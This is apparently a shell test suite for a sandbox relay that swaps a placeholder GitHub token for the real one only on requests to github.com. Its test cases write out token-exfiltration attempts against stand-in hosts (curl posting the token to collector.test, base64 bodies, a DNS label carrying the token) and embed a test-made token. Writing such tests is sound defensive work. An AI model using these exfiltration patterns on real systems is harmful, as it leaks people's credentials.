#!/bin/sh
# 360-secretless-border: the relay's half of the secretless jail (issue 15
# items 2-3). GH_TOKEN holds a real-format GitHub token; under the git
# profile the jail sees only its placeholder, and the relay puts the real
# token back only on the way to github.com (a loopback stand-in in this
# test's DNS): raw in a header, in Basic auth, over plain HTTP, over TLS on
# the key path (curl, python: records resealed with the session's keys)
# and on the CA path (bun), and git push (credential helper answering from
# GH_TOKEN, git-remote-https). The placeholder anywhere else (gitlab.com, a
# DNS label, base64 in a body even to github.com) is refused with rule
# "placeholder". A server echoing the real token back is read by the jail
# as the placeholder (identity, chunked, split over two writes).
. "$(dirname "$0")/lib.sh"
dns_sandbox
. "$top_srcdir/t/tls/lib-tls.sh"
need_relay
command -v curl >/dev/null || skip "curl not installed"
command -v openssl >/dev/null || skip "openssl not installed"
sh "$top_srcdir/t/tls/mkcerts.sh" "$T/pki" \
	"DNS:github.com,DNS:gitlab.com,DNS:api.github.com,DNS:*.allowed.test" ||
	{ echo "cannot make test certificates"; exit 99; }

TOKEN=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   # valid CRC32 tail, made for this test
export GH_TOKEN="$TOKEN" HOME="$T/home"
mkdir -p "$HOME"

# srv NAME [PKI]: t/swap/swapsrv.py on 127.0.0.1 (TLS with $T/PKI's
# certificate when given), ${NAME}_PORT, ${NAME}_LOG
srv() {
	name=$1; shift
	set -- ${1:+--tls "$T/$1/server.pem" "$T/$1/server.key"}
	python3 "$top_srcdir/t/swap/swapsrv.py" 127.0.0.1 "$T/$name.port" "$T/$name.log" "$@" &
	PIDS="$PIDS $!"
	i=0
	while [ ! -s "$T/$name.port" ] && [ $i -lt 200 ]; do sleep 0.05; i=$((i + 1)); done
	[ -s "$T/$name.port" ] || { echo "cannot start swapsrv"; exit 99; }
	touch "$T/$name.log"
	eval "${name}_PORT=\$(cat \"\$T/\$name.port\")"
	eval "${name}_LOG=\"\$T/\$name.log\""
}
sh "$top_srcdir/t/tls/mkcerts.sh" "$T/bad" "DNS:github.com" ||
	{ echo "cannot make test certificates"; exit 99; }
srv plain
srv tls pki
srv bad bad     # github.com by a CA the host does not trust (the client is told to)
J="--no-default-policy --log $T/events.jsonl -P git --allow github.com --allow gitlab.com
   --allow collector.test --allow *.collector.test --allow 127.0.0.1 --upstream-ca $CA"
tj() { : > "$T/events.jsonl"; timeout 30 "$DLPJAIL" $J -q -- "$@" 2>&1; }
CURL="curl -sS --http1.1 --cacert $CA"
CURL_NEXT="--http1.1 --cacert $CA"

# -- inside: only the placeholder --
PH=$(tj sh -c 'printf %s "$GH_TOKEN"')
check "the jail's GH_TOKEN is a placeholder of the same shape ($(echo "$PH" | cut -c1-8)...)" \
	sh -c "[ '$PH' != '$TOKEN' ] && [ \${#PH} -eq \${#TOKEN} ] && case '$PH' in ghp_*) true;; *) false;; esac" PH="$PH" TOKEN="$TOKEN"
[ ${#PH} -eq ${#TOKEN} ] || { echo "no placeholder: nothing more to test"; finish; exit 1; }
# placeholders are drawn per session: any ghp_ token but the real one is one
has_real() { grep -qaF "$TOKEN" "$1"; }
has_ph() { grep -aoE 'ghp_[A-Za-z0-9]{36}' "$1" | grep -qvxF "$TOKEN"; }
b64() { printf '%s' "$1" | base64 -w0; }
swapped() { has_real "$1" && ! has_ph "$1"; }  # LOG: the real token, never the placeholder
refused() { # LOG: neither arrived; the event says placeholder
	! has_real "$1" && ! has_ph "$1" &&
		event_has '"rule":"placeholder"' '"action":"blocked"' '"source":"env GH_TOKEN"'
}

# -- outbound: to its home, swapped --
: > "$tls_LOG"
out=$(tj sh -c "$CURL -H \"Authorization: Bearer \$GH_TOKEN\" https://github.com:$tls_PORT/x")
check "key path (curl): Bearer placeholder to github.com arrives as the real token ($out)" swapped "$tls_LOG"
: > "$tls_LOG"
out=$(tj sh -c "$CURL -u \"x-access-token:\$GH_TOKEN\" https://github.com:$tls_PORT/x")
check "key path (curl): Basic auth arrives with the real token inside ($out)" \
	grep -qaF "$(b64 "x-access-token:$TOKEN")" "$tls_LOG"
: > "$plain_LOG"
out=$(tj sh -c "curl -sS -A \"ua/\$GH_TOKEN\" -H \"Authorization: token \$GH_TOKEN\" \
	-H \"X-Token: \$GH_TOKEN\" -H \"Cookie: s=\$GH_TOKEN\" \"http://github.com:$plain_PORT/x?t=\$GH_TOKEN\"")
check "plain HTTP: gh-style 'Authorization: token' and Cookie arrive with the real token ($out)" \
	sh -c "grep -qaix 'authorization: token $TOKEN' '$plain_LOG' && grep -qaix 'cookie: s=$TOKEN' '$plain_LOG'"
# only credential places are swapped: a home may publish a query, a
# User-Agent, any other header (a search term, an access log, an echo)
check "... the query, X-Token and User-Agent keep the placeholder (not credential places)" \
	sh -c "test \$(grep -caF '$TOKEN' '$plain_LOG') -eq 2 &&
	       grep -aq '^GET /x?t=ghp_' '$plain_LOG' && grep -qai '^x-token: ghp_' '$plain_LOG' &&
	       grep -qai '^user-agent: ua/ghp_' '$plain_LOG'"
check "... said once as an event (placeholder-unswapped), nothing blocked" \
	sh -c "test \$(grep '\"rule\":\"placeholder-unswapped\"' '$T/events.jsonl' | grep -c '\"source\":\"env GH_TOKEN\"') -eq 1 &&
	       ! grep -q '\"action\":\"blocked\"' '$T/events.jsonl'"
check "the swap is no finding: home-domain, nothing blocked" \
	sh -c "! grep -q '\"action\":\"blocked\"' '$T/events.jsonl'"

# -- pip: Basic auth from the index URL's userinfo (python's ssl: key path;
# requests prefers REQUESTS_CA_BUNDLE, which the jail sets, to --cert) --
if command -v pip3 >/dev/null; then
	: > "$tls_LOG"
	out=$(tj sh -c "REQUESTS_CA_BUNDLE=$CA PIP_CONFIG_FILE=/dev/null pip3 download -q --no-deps --no-cache-dir --retries 0 \
		--cert $CA -d $T/pipdl --index-url \"https://x:\$GH_TOKEN@github.com:$tls_PORT/simple/\" \
		no-such-pkg 2>&1 | tail -1")
	check "pip: the index URL's credential reaches github.com as the real token (Basic)" \
		grep -qaF "$(b64 "x:$TOKEN")" "$tls_LOG"
fi

# -- git push over HTTPS (git-remote-https, libcurl-gnutls: key path) --
if command -v git >/dev/null; then
	export GIT_CONFIG_NOSYSTEM=1 GIT_SSL_CAINFO="$CA" GIT_TERMINAL_PROMPT=0
	git init -q --bare "$T/git/repo.git"
	git -C "$T/git/repo.git" config http.receivepack true
	git init -q "$T/work"
	git -C "$T/work" -c user.name=t -c user.email=t@t commit -q --allow-empty -m seed
	git -C "$T/work" push -q "$T/git/repo.git" HEAD:refs/heads/main
	start_https 127.0.0.1 gitsrv --git "$T/git" --auth
	git -C "$T/work" -c user.name=t -c user.email=t@t commit -q --allow-empty -m pushed
	# the credential helper answers from GH_TOKEN, as gh's does
	out=$(tj git -C "$T/work" -c credential.helper= \
	      -c 'credential.helper=!f() { echo username=x-access-token; echo "password=$GH_TOKEN"; }; f' \
	      push -q "https://github.com:$gitsrv_PORT/git/repo.git" HEAD:main)
	check "git push with GH_TOKEN to github.com works ($out)" \
		test "$(git -C "$T/git/repo.git" rev-parse main)" = "$(git -C "$T/work" rev-parse HEAD)"
	check "... github.com received the real token in Basic auth" \
		grep -qaF "$(b64 "x-access-token:$TOKEN")" "$gitsrv_LOG"
	: > "$gitsrv_LOG"
	out=$(tj git -C "$T/work" -c credential.helper= \
	      -c 'credential.helper=!f() { echo username=x-access-token; echo "password=$GH_TOKEN"; }; f' \
	      push -q "https://gitlab.com:$gitsrv_PORT/git/repo.git" HEAD:other)
	check "the same push to gitlab.com is refused, nothing with a credential arrives" \
		sh -c "! grep -qai '^authorization:' '$gitsrv_LOG' && ! git -C '$T/git/repo.git' rev-parse -q --verify other >/dev/null"
fi

# -- split: one byte per write (TLS: one record each), held until it completes --
cat > "$T/split.py" <<PY
import os, socket, ssl, sys
host, port, tls = sys.argv[1], int(sys.argv[2]), sys.argv[3] == "tls"
s = socket.create_connection((host, port))
if tls:
    s = ssl.create_default_context(cafile="$CA").wrap_socket(s, server_hostname=host)
s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
req = ("GET /x HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer %s\r\nConnection: close\r\n\r\n"
       % (host, os.environ["GH_TOKEN"])).encode()
try:
    for i in range(len(req)):
        s.sendall(req[i:i + 1])
    print("sent", s.recv(100).split(b"\r\n")[0].decode())
except OSError as e:
    print("refused", e)
PY
for mode in tls plain; do
	eval "port=\$${mode}_PORT log=\$${mode}_LOG"
	: > "$log"
	out=$(tj python3 "$T/split.py" github.com "$port" $mode)
	check "$mode, 1-byte writes: the split placeholder arrives at github.com as the real token ($out)" \
		swapped "$log"
	: > "$log"
	out=$(tj python3 "$T/split.py" gitlab.com "$port" $mode)
	check "$mode, 1-byte writes: to gitlab.com refused ($out)" refused "$log"
done

# -- HTTP/2 on the key path: HPACK header blocks re-encoded --
if command -v go >/dev/null && (cd "$T" && cp "$top_srcdir/t/tls/h2d.go" . &&
	GO111MODULE=off timeout 120 go build -o h2d h2d.go) 2>/dev/null; then
	"$T/h2d" 127.0.0.1 "$T/h2.port" "$T/h2.log" "$T/pki/server.pem" "$T/pki/server.key" 2>/dev/null &
	PIDS="$PIDS $!"
	i=0
	while [ ! -s "$T/h2.port" ] && [ $i -lt 200 ]; do sleep 0.05; i=$((i + 1)); done
	touch "$T/h2.log"
	H2=https://github.com:$(cat "$T/h2.port")
	# three requests on one connection: nghttp2 indexes a long Cookie, so
	# the 2nd and 3rd refer to the swapped literal of the 1st by index
	out=$(tj sh -c "curl -sS --http2 --cacert $CA -H \"Authorization: Bearer \$GH_TOKEN\" \
		-H \"Cookie: session=\$GH_TOKEN\" -H \"X-Token: \$GH_TOKEN\" $H2/a $H2/b $H2/c")
	check "HTTP/2 (curl, one connection, 3 requests): all pass ($out)" \
		test "$(printf '%s\n' "$out" | grep -c '^hello HTTP/2.0')" -eq 3
	check "... each Authorization arrives with the real token" \
		test "$(grep -caxF "Authorization: Bearer $TOKEN" "$T/h2.log")" -eq 3
	check "... each Cookie too (the 2nd and 3rd by HPACK index)" \
		test "$(grep -caxF "Cookie: session=$TOKEN" "$T/h2.log")" -eq 3
	check "... X-Token keeps the placeholder (no credential header)" \
		sh -c "test \$(grep -ca '^X-Token: ghp_' '$T/h2.log') -eq 3 && ! grep -qaF 'X-Token: $TOKEN' '$T/h2.log'"
	# a Huffman-coded real value may be longer than the placeholder's: the
	# record is resealed longer. LONG has the longest Huffman codes of its
	# classes (upper case J K Q X Y Z: 8 bits), so a placeholder drawn from
	# the same classes is almost always shorter (each session draws a
	# fresh one: until one grows, at most 5; each time the real one arrives)
	LONG=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   # valid CRC32 tail
	grew=0 i=0
	while [ $grew -eq 0 ] && [ $i -lt 5 ]; do
		i=$((i + 1))
		: > "$T/h2.log"
		out=$(GH_TOKEN=$LONG timeout 30 "$DLPJAIL" $J -vv -- sh -c "curl -sS --http2 \
			--cacert $CA -H \"Authorization: Bearer \$GH_TOKEN\" $H2/g" 2>&1)
		grep -qaxF "Authorization: Bearer $LONG" "$T/h2.log" || break
		case $out in *"resealed"*"bytes longer"*) grew=1;; esac
	done
	check "HTTP/2: a header block that grew is resealed in a longer record and arrives ($i sessions)" \
		test $grew -eq 1
	: > "$T/h2.log"
	out=$(tj sh -c "curl -sS --http2 --cacert $CA -u \"x-access-token:\$GH_TOKEN\" $H2/basic")
	check "HTTP/2 (curl -u): Basic arrives with the real token inside ($out)" \
		grep -qaF "$(b64 "x-access-token:$TOKEN")" "$T/h2.log"
	: > "$T/h2.log"
	out=$(tj sh -c "curl -sS --compressed --http2 --cacert $CA -H \"Authorization: Bearer \$GH_TOKEN\" $H2/ae")
	check "HTTP/2: Accept-Encoding to a home that swaps loses br and zstd ($out)" \
		sh -c "grep -qi '^Accept-Encoding: .*gzip' '$T/h2.log' && ! grep -qiE '^Accept-Encoding:.*(br|zstd)' '$T/h2.log'"
	if command -v node >/dev/null; then
		: > "$T/h2.log"
		cat > "$T/h2.js" <<'JS'
const http2 = require("http2");
const s = http2.connect(process.argv[2], { ca: require("fs").readFileSync(process.argv[3]) });
let left = 4, out = [];
for (let i = 0; i < 4; i++) {
	const r = s.request({ ":path": "/n" + i, authorization: "token " + process.env.GH_TOKEN });
	let b = "";
	r.on("data", (d) => (b += d));
	r.on("end", () => { out.push(b.trim()); if (!--left) { console.log(out.join(",")); s.close(); } });
	r.end();
}
JS
		out=$(tj node "$T/h2.js" "$H2" "$CA")
		check "HTTP/2 (node http2, one session, 4 streams): all pass ($out)" \
			test "$(printf '%s' "$out" | grep -o 'hello HTTP/2.0' | wc -l)" -eq 4
		check "... each authorization arrives with the real token" \
			test "$(grep -caxF "Authorization: token $TOKEN" "$T/h2.log")" -eq 4
	fi
	# inbound: the real token echoed in an HPACK response header (Go's
	# encoder indexes it: the 2nd response refers to it by index)
	out=$(tj sh -c "echo ph=\$GH_TOKEN; curl -sS -i --http2 --cacert $CA \
		-H \"Authorization: Bearer \$GH_TOKEN\" $H2/echo $H2/echo")
	ph=$(printf '%s\n' "$out" | sed -n 's/^ph=//p')
	check "HTTP/2 inbound: an echoed response header shows the placeholder, twice, never the real token" \
		sh -c "test \$(printf '%s\n' '$out' | grep -ci '^x-echo: Bearer $ph') -eq 2 &&
		       ! printf '%s' '$out' | grep -qF '$TOKEN'"
	out=$(tj sh -c "curl -sS --http2 --cacert $CA -H \"Authorization: Bearer \$GH_TOKEN\" https://gitlab.com:$(cat "$T/h2.port")/hello")
	check "HTTP/2 to gitlab.com: refused, rule placeholder ($out)" event_has '"rule":"placeholder"' '"action":"blocked"'
	# the CA path (static Go, h2 by default): a bound home gets HTTP/1.1 both
	# ways (the relay drops h2 from the ALPN it forwards), so the swap applies
	if (cd "$T" && cp "$top_srcdir/t/tls/tlsca_client.go" . &&
	    CGO_ENABLED=0 GO111MODULE=off timeout 120 go build -o gostatic tlsca_client.go) 2>/dev/null; then
		: > "$T/h2.log"
		out=$(tj sh -c "\"$T/gostatic\" auth https://github.com:$(cat "$T/h2.port")/hello \"\$GH_TOKEN\"")
		check "CA path (static Go, offers h2): the placeholder arrives at github.com as the real token ($out)" \
			swapped "$T/h2.log"
		check "... over HTTP/1.1" grep -q '^GET /hello HTTP/1.1' "$T/h2.log"
		# one byte per TLS record: the CA path holds the tail back too
		: > "$T/h2.log"
		out=$(tj sh -c "\"$T/gostatic\" split https://github.com:$(cat "$T/h2.port")/split \"\$GH_TOKEN\"")
		check "CA path (static Go), 1-byte TLS records: the split placeholder arrives as the real token ($out)" \
			swapped "$T/h2.log"
		: > "$T/h2.log"
		out=$(tj sh -c "\"$T/gostatic\" split https://gitlab.com:$(cat "$T/h2.port")/split \"\$GH_TOKEN\"")
		check "CA path (static Go), 1-byte TLS records to gitlab.com: refused ($out)" refused "$T/h2.log"
	fi
fi

# -- key path: the name must be proven by the upstream certificate --
: > "$bad_LOG"
out=$(tj sh -c "curl -sS --http1.1 --cacert $T/bad/ca.pem -H \"Authorization: Bearer \$GH_TOKEN\" https://github.com:$bad_PORT/x")
check "key path: github.com with a certificate the host's store does not trust gets no swap, refused ($out)" \
	refused "$bad_LOG"

# -- to its home, but in a request body: refused (a gist, an issue comment) --
: > "$tls_LOG"
out=$(tj sh -c "$CURL -H 'Content-Type: application/json' -d \"{\\\"content\\\":\\\"\$GH_TOKEN\\\"}\" https://github.com:$tls_PORT/gists")
check "key path: the placeholder in a JSON body to github.com is refused, never swapped ($out)" refused "$tls_LOG"
: > "$plain_LOG"
out=$(tj sh -c "printf '%s' \"\$GH_TOKEN\" | curl -sS -H 'Transfer-Encoding: chunked' --data-binary @- http://github.com:$plain_PORT/gists")
check "plain HTTP: ... in a chunked body too ($out)" refused "$plain_LOG"
# keep-alive: the body is framed, the next request's header is swapped again
: > "$tls_LOG"
out=$(tj sh -c "$CURL -d hello https://github.com:$tls_PORT/a --next $CURL_NEXT -H \"Authorization: Bearer \$GH_TOKEN\" https://github.com:$tls_PORT/b")
check "keep-alive: after a POST body, the next request's header is swapped ($out)" swapped "$tls_LOG"

# -- outbound: anywhere else, refused --
: > "$tls_LOG"
out=$(tj sh -c "$CURL -H \"Authorization: Bearer \$GH_TOKEN\" https://gitlab.com:$tls_PORT/x")
check "key path: the placeholder to gitlab.com is refused ($out)" refused "$tls_LOG"
: > "$plain_LOG"
out=$(tj sh -c "curl -sS -d \"t=\$GH_TOKEN\" http://collector.test:$plain_PORT/x")
check "plain HTTP: the placeholder in a body to collector.test is refused ($out)" refused "$plain_LOG"
: > "$tls_LOG"
out=$(tj sh -c "printf %s \"\$GH_TOKEN\" | base64 -w0 > $T/b64; $CURL --data-binary @$T/b64 https://github.com:$tls_PORT/x")
check "base64'd in a body, even to github.com: refused ($out)" refused "$tls_LOG"
out=$(tj python3 -c "
import os, socket
try:
    socket.getaddrinfo(os.environ['GH_TOKEN'] + '.collector.test', 80)
except OSError as e:
    print('refused', e)
")
dns_refused() {
	event_has '"op":"resolve"' '"rule":"placeholder via' '"detector":"placeholder"' '"action":"blocked"' \
		'"source":"env GH_TOKEN"'
}
check "in a DNS label, under an allow line: refused ($out)" dns_refused
check "events hold neither the token nor the placeholder in clear" \
	sh -c "! grep -qF '$TOKEN' '$T/events.jsonl' && ! grep -qF '$PH' '$T/events.jsonl'"

# -- inbound: the real token echoed back is read as the placeholder --
inbound() { # OUTPUT (first line ph=PLACEHOLDER): the echo shows it, never the real token
	ph=$(printf '%s\n' "$1" | sed -n 's/^ph=//p' | head -1)
	echoed=$(printf '%s\n' "$1" | grep -c "auth=Bearer $ph")
	[ -n "$ph" ] && [ "$echoed" -ge 1 ] && ! has "$1" "$TOKEN"
}
for path in echo echo-chunked echo-split; do
	out=$(tj sh -c "echo ph=\$GH_TOKEN; $CURL -i -H \"Authorization: Bearer \$GH_TOKEN\" https://github.com:$tls_PORT/$path")
	check "key path: /$path echoes the real token, the jail reads the placeholder" inbound "$out"
	out=$(tj sh -c "echo ph=\$GH_TOKEN; curl -sS -i -H \"Authorization: Bearer \$GH_TOKEN\" http://github.com:$plain_PORT/$path")
	check "plain HTTP: /$path echoes the real token, the jail reads the placeholder" inbound "$out"
done
# -- inbound compressed: the border cannot put the placeholder into a gzip
# body, so a real value there resets the connection (the jail never reads
# it); a clean gzip body passes --
for mode in tls plain; do
	eval "port=\$${mode}_PORT"
	url=https://github.com:$port
	[ $mode = plain ] && url=http://github.com:$port
	out=$(tj sh -c "curl -sS --compressed $CURL_NEXT -H \"Authorization: Bearer \$GH_TOKEN\" $url/echo-gzip 2>&1")
	cp "$T/events.jsonl" "$T/ev-$mode.jsonl"
	check "$mode: a gzip body echoing the real token is reset, the jail reads neither ($(echo "$out" | head -c 80))" \
		sh -c "! printf '%s' '$out' | grep -qF '$TOKEN' && ! printf '%s' '$out' | grep -q 'auth=Bearer' &&
		       grep -q '\"rule\":\"real-inbound\"' '$T/events.jsonl'"
	eval ": > \"\$${mode}_LOG\""
	out=$(tj sh -c "curl -sS --compressed $CURL_NEXT -H \"Authorization: Bearer \$GH_TOKEN\" $url/gzip")
	check "$mode: a clean gzip body from the home passes ($out)" test "$out" = "hello gzip"
	# curl asks for br and zstd too, which the engine cannot decode: on a
	# connection that swaps they are blanked out of Accept-Encoding
	eval "log=\$${mode}_LOG"
	check "$mode: ... its request asked for gzip and deflate only (br, zstd blanked)" \
		sh -c "grep -ai '^accept-encoding:' '$log' | grep -qi gzip &&
		       ! grep -ai '^accept-encoding:' '$log' | grep -qiE 'br|zstd'"
done
: > "$plain_LOG"
out=$(tj sh -c "curl -sS --compressed http://collector.test:$plain_PORT/gzip")
check "... a connection that swaps nothing keeps its Accept-Encoding ($out)" \
	grep -qi '^accept-encoding:.*br' "$plain_LOG"
if command -v bun >/dev/null; then
	cat > "$T/b.js" <<JS
const r = await fetch(process.argv[2], { headers: { authorization: "Bearer " + process.env.GH_TOKEN } });
console.log("ph=" + process.env.GH_TOKEN);
console.log(r.status, r.headers.get("x-echo"), await r.text());
JS
	: > "$tls_LOG"
	out=$(tj bun "$T/b.js" "https://github.com:$tls_PORT/echo")
	check "CA path (bun): the placeholder arrives as the real token ($(echo $out | cut -c1-40))" swapped "$tls_LOG"
	check "CA path (bun): the echoed real token is read as the placeholder" inbound "$out"
	: > "$tls_LOG"
	out=$(tj bun "$T/b.js" "https://gitlab.com:$tls_PORT/echo")
	check "CA path (bun): the placeholder to gitlab.com is refused" refused "$tls_LOG"
fi
finish
